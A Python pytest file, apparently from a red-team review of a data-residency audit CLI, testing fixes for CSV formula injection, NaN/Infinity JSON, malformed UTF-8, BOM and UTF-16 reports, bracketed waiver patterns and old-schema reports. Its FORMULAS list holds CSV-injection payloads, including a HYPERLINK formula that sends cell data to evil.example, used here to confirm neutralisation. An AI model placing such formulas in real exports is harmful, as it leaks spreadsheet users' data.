"""Red-team review (session 4) of the readers of outside input, through the real CLI: each finding, kept closed.

- A location is chosen by whoever writes the plan (or edits a report): in CSV it was written raw, so
  `location = "=HYPERLINK(…)"` became a spreadsheet formula in the `primary`/`replicas` columns.
- The own-layout report reader accepted `NaN`/`Infinity` (not JSON; Python's parser allows them) where the general
  reader refuses them: the same bytes in another layout gave another answer.
- The own-layout reader decoded UTF-8-encoded surrogates (bytes that are not UTF-8) into lone surrogates: `check`
  then crashed with a UnicodeEncodeError traceback in the json, csv, sarif and html formats.
- A report saved with a byte-order mark or as UTF-16 (Windows PowerShell) was refused with a Python bytes repr in the
  message; it is read like any other layout, as plans are.
- A waiver's `[…]` was a character class: `aws_s3_bucket.b["eu"]` (a Terraform address) waived `aws_s3_bucket.be`
  and not itself.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from residency_audit.cli import app
from residency_audit.safe import _FORMULA

from .streaming_inputs import write

runner = CliRunner()
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"]


def _invoke(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def _azure_plan(location: str) -> dict[str, Any]:
    values = {"name": "s", "location": location, "account_replication_type": "GRS", "tags": {}}
    res = {"address": "azurerm_storage_account.s", "mode": "managed", "type": "azurerm_storage_account",
           "name": "s", "values": values}  # fmt: skip
    change = {k: res[k] for k in ("address", "mode", "type", "name")} | {
        "change": {"actions": ["create"], "after": values, "after_unknown": {}}
    }
    return {"format_version": "1.2", "planned_values": {"root_module": {"resources": [res]}},
            "resource_changes": [change]}  # fmt: skip


def _no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(_FORMULA) or cell == "-", (cell, row)
    return rows


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_hostile_location_is_no_formula_in_csv(tmp_path: Path, payload: str) -> None:
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(_azure_plan(payload)))
    code, out, _ = _invoke("plan", str(plan), "--profile", "eu-gdpr", "--format", "csv")
    assert code in (0, 1, 3)
    rows = _no_formula(out)
    (row,) = [r for r in rows if r[4] == "azurerm_storage_account.s"]
    assert row[7] == "'" + payload  # literal, behind the apostrophe OWASP recommends
    # the same location through a saved report and `check` (the streamed writer)
    saved = tmp_path / "report.json"
    _invoke("plan", str(plan), "--format", "json", "-o", str(saved))
    code, out, _ = _invoke("check", str(saved), "--profile", "eu-gdpr", "--format", "csv")
    assert code in (0, 1, 3)
    (row,) = [r for r in _no_formula(out) if r[4] == "azurerm_storage_account.s"]
    assert row[7] == "'" + payload


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, bytes, int]:
    """A saved report in the tool's own layout and the exit code `check --profile eu-sovereign` gives it."""
    where = tmp_path_factory.mktemp("inputs")
    path = where / "report.json"
    write(path, 12, skips=0)
    code, _, _ = _invoke("check", str(path), "--profile", "eu-sovereign", "--format", "json")
    return where, path.read_bytes(), code


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity", "1e999", "99999999999999999999"])
@pytest.mark.parametrize("where", ["head", "item"])
def test_nan_infinity_and_overflowing_numbers_are_refused_in_any_layout(
    saved: tuple[Path, bytes, int], literal: str, where: str
) -> None:
    folder, text, _ = saved
    if where == "head":
        bad = text.replace(b'"as_of": null', b'"as_of": null, "x": ' + literal.encode(), 1)
    else:
        bad = text.replace(b'"assessment": {"level"', b'"assessment": {"x": ' + literal.encode() + b', "level"', 1)
    assert bad != text
    for layout, data in (("own", bad), ("one line", _one_line(bad))):
        path = folder / f"nan-{where}.json"
        path.write_bytes(data)
        code, _, err = _invoke("check", str(path), "--profile", "eu-sovereign", "--format", "json")
        assert code == 2, layout
        (line,) = err.strip().splitlines()
        assert "not valid JSON" in line and str(path) in line


def _one_line(data: bytes) -> bytes:
    """The same bytes with every line break removed: the general reader's layout."""
    return b" ".join(line.strip() for line in data.splitlines())


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le-bom", "utf-16-be-bom", "utf-32"])
def test_a_report_saved_with_a_bom_or_as_utf16_gives_the_same_verdict(
    saved: tuple[Path, bytes, int], encoding: str
) -> None:
    folder, text, expected = saved
    if encoding.endswith("-bom"):
        codec = encoding.removesuffix("-bom")
        data = ("\ufeff" + text.decode()).encode(codec)
    else:
        data = text.decode().encode(encoding)
    path = folder / f"{encoding}.json"
    path.write_bytes(data)
    code, out, err = _invoke("check", str(path), "--profile", "eu-sovereign", "--format", "json")
    assert code == expected, err
    assert json.loads(out)["summary"]["resources"] == 12
    # through a pipe (`-`) too
    result = runner.invoke(app, ["check", "-", "--profile", "eu-sovereign", "--format", "json"], input=data)
    assert result.exit_code == expected, result.stderr


@pytest.mark.parametrize("part", ["name", "tag", "assessment"])
@pytest.mark.parametrize("fmt", ["json", "csv", "sarif", "html"])
def test_utf8_encoded_surrogates_are_refused_not_a_traceback(
    saved: tuple[Path, bytes, int], part: str, fmt: str
) -> None:
    """Bytes ED A0 80 (a surrogate encoded as UTF-8: not UTF-8) in a name crashed json, csv, sarif and html output."""
    folder, text, _ = saved
    old = {"name": b'"name": "store-0001', "tag": b'"team": "t1', "assessment": b'"reasons": ["'}[part]
    bad = text.replace(old, old + b"\xed\xa0\x80", 1)
    assert bad != text
    path = folder / f"surrogate-{part}.json"
    path.write_bytes(bad)
    out = folder / f"out.{fmt}"
    code, _, err = _invoke("check", str(path), "--profile", "eu-sovereign", "--format", fmt, "-o", str(out))
    assert code == 2 and not out.exists()
    (line,) = err.strip().splitlines()
    assert "not UTF-8" in line


def test_undecodable_report_bytes_are_one_readable_line(saved: tuple[Path, bytes, int]) -> None:
    folder, _, _ = saved
    path = folder / "latin1.json"
    path.write_bytes(b'{"schema_version": "2", "x": "caf\xe9"}')
    code, _, err = _invoke("check", str(path), "--profile", "eu-sovereign")
    assert code == 2
    (line,) = err.strip().splitlines()
    assert "b'" not in line and "not UTF-8" in line


def _waiver_profile(folder: Path, pattern: str) -> Path:
    profile = folder / "waive.toml"
    profile.write_text(
        'name = "waive"\n[viewpoint]\nhome = ["EU"]\n[copies]\nallowed = ["EU"]\n[reach]\ncount = []\n'
        f'[[waiver]]\nresource = {json.dumps(pattern)}\nrule = "RA001"\nreason = "migrating"\n'
        "expires = 2099-01-01\n"
    )
    return profile


def _us_buckets(folder: Path, *addresses: str) -> Path:
    resources, changes = [], []
    for address in addresses:
        values = {"bucket": address, "region": "us-east-1", "tags": {}}
        res = {"address": address, "mode": "managed", "type": "aws_s3_bucket", "name": address.split(".")[1],
               "values": values}  # fmt: skip
        resources.append(res)
        changes.append({k: res[k] for k in ("address", "mode", "type", "name")}
                       | {"change": {"actions": ["create"], "after": values, "after_unknown": {}}})  # fmt: skip
    plan = folder / "plan.json"
    plan.write_text(json.dumps({"format_version": "1.2", "planned_values": {"root_module": {"resources": resources}},
                                "resource_changes": changes}))  # fmt: skip
    return plan


def _waived(folder: Path, pattern: str, *addresses: str) -> dict[str, bool]:
    plan, profile = _us_buckets(folder, *addresses), _waiver_profile(folder, pattern)
    code, out, err = _invoke("plan", str(plan), "--profile", str(profile), "--format", "json")
    assert code in (0, 1), err
    return {f["resource"]: f["waived"] for f in json.loads(out)["findings"] if f["rule"] == "RA001"}


def test_a_waiver_names_a_terraform_address_with_brackets_literally(tmp_path: Path) -> None:
    waived = _waived(tmp_path, 'aws_s3_bucket.b["eu"]', 'aws_s3_bucket.b["eu"]', "aws_s3_bucket.be")
    assert waived == {'aws_s3_bucket.b["eu"]': True, "aws_s3_bucket.be": False}
    waived = _waived(tmp_path, "aws_s3_bucket.b[0]", "aws_s3_bucket.b[0]", "aws_s3_bucket.b0")
    assert waived == {"aws_s3_bucket.b[0]": True, "aws_s3_bucket.b0": False}


def test_waiver_wildcards_still_match(tmp_path: Path) -> None:
    waived = _waived(tmp_path, "aws_s3_bucket.b[*]", "aws_s3_bucket.b[0]", "aws_s3_bucket.b[1]", "aws_s3_bucket.c")
    assert waived == {"aws_s3_bucket.b[0]": True, "aws_s3_bucket.b[1]": True, "aws_s3_bucket.c": False}
    waived = _waived(tmp_path, "aws_s3_bucket.?", "aws_s3_bucket.c", "aws_s3_bucket.cd")
    assert waived == {"aws_s3_bucket.c": True, "aws_s3_bucket.cd": False}


WESTUS = Path(__file__).parent / "fixtures" / "plans" / "unevaluated-westus.json"


def _schema_1(report: dict[str, Any]) -> dict[str, Any]:
    """A report as schema 1 had it: no coverage section (coverage came with schema 2)."""
    old = {k: v for k, v in report.items() if k != "coverage"} | {"schema_version": "1"}
    old["complete"] = not old["skipped"]
    return old


def test_a_schema_1_plan_report_still_gates_on_what_the_plan_did_not_evaluate(tmp_path: Path) -> None:
    """Issue 10's westus plan (an Azure SQL database, a PostgreSQL server, Application Insights in westus): the
    plan exits 3; its saved report, read as schema 1 (no coverage section), passed `check` with exit 0."""
    saved = tmp_path / "plan-report.json"
    code, _, _ = _invoke("plan", str(WESTUS), "--profile", "eu-sovereign", "--format", "json", "-o", str(saved))
    assert code == 3
    old = tmp_path / "v1.json"
    old.write_text(json.dumps(_schema_1(json.loads(saved.read_text())), indent=2))
    code, out, _ = _invoke("check", str(old), "--profile", "eu-sovereign", "--format", "json")
    assert code == 3
    unassessed = {t["type"] for t in json.loads(out)["coverage"]["types"] if t["not_assessed"] and not t["accepted"]}
    assert "Microsoft.Sql/servers/databases" in unassessed


def test_a_schema_1_scan_report_cannot_pass_on_a_coverage_it_never_recorded(saved: tuple[Path, bytes, int]) -> None:
    folder, text, _ = saved
    report = json.loads(text)
    report["resources"] = []  # nothing assessed, nothing failing: only coverage could stop a pass
    report["summary"]["resources"] = 0
    report["summary"]["by_level"] = dict.fromkeys(report["summary"]["by_level"], 0)
    report["summary"]["by_country"] = {}
    old = folder / "v1-scan.json"
    old.write_text(json.dumps(_schema_1(report), indent=2))
    code, out, _ = _invoke("check", str(old), "--profile", "eu-sovereign", "--format", "json")
    assert code == 3
    (skip,) = {s["reason"] for s in json.loads(out)["skipped"]}
    assert "schema 1" in skip and "coverage" in skip
    code, _, _ = _invoke("check", str(old), "--profile", "eu-sovereign", "--allow-incomplete")
    assert code == 0  # the user's explicit choice, as for any incomplete scan


def _nest(text: bytes, section: bytes, item: bytes) -> bytes:
    """The own layout with a `section` array nested in `tool` (valid JSON: an extra field of tool)."""
    inner = b'    "version": "0.1.0",\n  "' + section + b'": [\n    ' + item + b"\n  ]\n  },"
    out = text.replace(b'    "version": "0.1.0"\n  },', inner, 1)
    assert out != text
    return out


@pytest.mark.parametrize("section", [b"skipped", b"resources", b"not_evaluated"])
def test_a_section_nested_in_another_field_reads_as_any_json_reader_reads_it(
    saved: tuple[Path, bytes, int], section: bytes
) -> None:
    """The own-layout reader took any line `  "skipped": [` for the top-level array, even inside another field."""
    folder, text, _ = saved
    item = {b"skipped": b'{"provider": "aws", "scope": "account/1", "reason": "AccessDenied"}',
            b"resources": next(x for x in text.split(b"\n") if x.startswith(b'    {"provider')).strip().rstrip(b","),
            b"not_evaluated": b'{"address": "a.b", "type": "azurerm_mssql_database", "reason": "x"}'}[section]  # fmt: skip
    nested = folder / "nested.json"
    nested.write_bytes(_nest(text, section, item))
    minified = folder / "minified.json"
    minified.write_text(json.dumps(json.loads(nested.read_bytes())))
    results = [_invoke("check", str(p), "--profile", "eu-sovereign", "--format", "json") for p in (nested, minified)]
    assert results[0][0] == results[1][0]
    if results[0][0] != 2:
        assert json.loads(results[0][1])["summary"] == json.loads(results[1][1])["summary"]
